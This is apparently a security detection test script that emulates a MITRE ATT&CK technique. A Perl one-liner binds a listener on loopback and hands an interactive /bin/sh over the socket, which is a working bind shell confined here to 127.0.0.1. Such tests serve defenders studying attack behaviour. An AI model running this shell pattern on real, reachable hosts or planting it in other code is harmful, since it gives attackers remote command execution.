#!/bin/sh
# case: T1059.006-perl-bind-shell
# technique: Perl listens and hands a shell over
# source: redcanaryco/atomic-red-team T1059.006; MITRE ATT&CK T1059.004
# needs: perl
# expect: net exec
# where: container
# image: debian
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
need perl
perl -MIO::Socket::INET -e '$l=IO::Socket::INET->new(Listen=>1,LocalAddr=>"127.0.0.1",ReuseAddr=>1) or exit 77;$c=IO::Socket::INET->new(PeerAddr=>"127.0.0.1",PeerPort=>$l->sockport);$a=$l->accept;print $c "id\nexit\n";$c->flush;unless(fork){open(STDIN,"<&",$a);open(STDOUT,">&",$a);open(STDERR,">&",$a);exec "/bin/sh","-i"}wait'
exit 0
